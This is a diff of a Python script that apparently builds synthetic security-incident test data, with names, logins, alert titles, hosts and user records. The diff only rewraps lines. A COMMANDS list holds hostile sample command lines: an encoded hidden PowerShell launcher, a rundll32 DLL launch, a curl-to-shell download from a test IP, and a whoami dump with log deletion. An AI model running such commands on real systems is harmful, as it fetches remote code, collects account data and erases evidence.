@@ -13,8 +13,8 @@ TENANT = "11111111-2222-3333-4444-555555555555"
 
 _NAMES = [
     "Adele Vance", "Alex Wilber", "Zoë Núñez", "Søren Ångström", "Siobhán O'Brien", "山田 太郎", "محمد علي", "דנה כהן",
-    "Łukasz Żółć", "Nguyễn Thị Hương", "Ιωάννα Παπαδοπούλου", "Светлана Иванова", "김민준", "Robin 🦊 Fuchs", "Grace Okafor",
-    "João da Silva", "Megan Bowen", "Patti Fernandez", "Lee Gu", "Nestor Wilke",
+    "Łukasz Żółć", "Nguyễn Thị Hương", "Ιωάννα Παπαδοπούλου", "Светлана Иванова", "김민준", "Robin 🦊 Fuchs",
+    "Grace Okafor", "João da Silva", "Megan Bowen", "Patti Fernandez", "Lee Gu", "Nestor Wilke",
 ]
 _LOGINS = [
     "adelev", "alexw", "zoen", "sorena", "o'brien", "tyamada", "mali", "dcohen", "lzolc", "nguyenth", "ipapad", "sivanova",
@@ -27,8 +27,9 @@ TITLES = [
     "Mass download by a single user", "Connection to a command and control server", "Credential dumping tool detected",
     "Unusual number of failed sign-ins", "Messages containing malicious URL removed after delivery",
     "Privileged container was started", "Suspicious access to a storage account", "New inbox forwarding rule",
-    "Tamper attempt on security software — blocked", "Possible lateral movement from {host}", "Ransomware activity on {host}",
-    "Activité suspecte détectée sur {host}", "不審なログインが検出されました", "تسجيل دخول مشبوه", "Verdächtiger Prozess „{malware}“",
+    "Tamper attempt on security software — blocked", "Possible lateral movement from {host}",
+    "Ransomware activity on {host}", "Activité suspecte détectée sur {host}", "不審なログインが検出されました",
+    "تسجيل دخول مشبوه", "Verdächtiger Prozess „{malware}“",
     "Suspicious OAuth application 🚨", "Anomalous token use", "Data exfiltration over DNS",
 ]
 SENTENCES = [
@@ -69,7 +70,8 @@ FILES = [("svchost.exe", "C:\\Windows\\System32"), ("powershell.exe", "C:\\Windo
 COMMANDS = ["powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
             "\"rundll32.exe\" C:\\Users\\Public\\x.dll,Start", "/bin/sh -c 'curl -s http://203.0.113.9/a | sh'",
             "cmd.exe /c \"whoami /all > %TEMP%\\o.txt\" & del /q \"C:\\a b\\*.log\""]
-HOSTS_OUTSIDE = ["updates.example", "login-contoso.example", "cdn.xn--bcher-kva.example", "a.b.c.d.example", "files.example"]
+HOSTS_OUTSIDE = ["updates.example", "login-contoso.example", "cdn.xn--bcher-kva.example", "a.b.c.d.example",
+                 "files.example"]
 WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hôtel", "índia", "juliett", "kilo", "limα"]
 
 
@@ -99,7 +101,8 @@ def _device(name: str, number: int) -> dict:
 def _person(login: str, name: str, number: int) -> dict:
     rng = random.Random(f"person {login}")
     return {
-        "accountName": login, "domainName": "CONTOSO", "userSid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + number}",
+        "accountName": login, "domainName": "CONTOSO",
+        "userSid": f"S-1-5-21-1004336348-1177238915-682003330-{1100 + number}",
         "azureAdUserId": guid(rng), "userPrincipalName": f"{login}@{DOMAIN}", "displayName": name,
         "activeDirectoryObjectGuid": guid(rng), "tenantId": TENANT,
     }
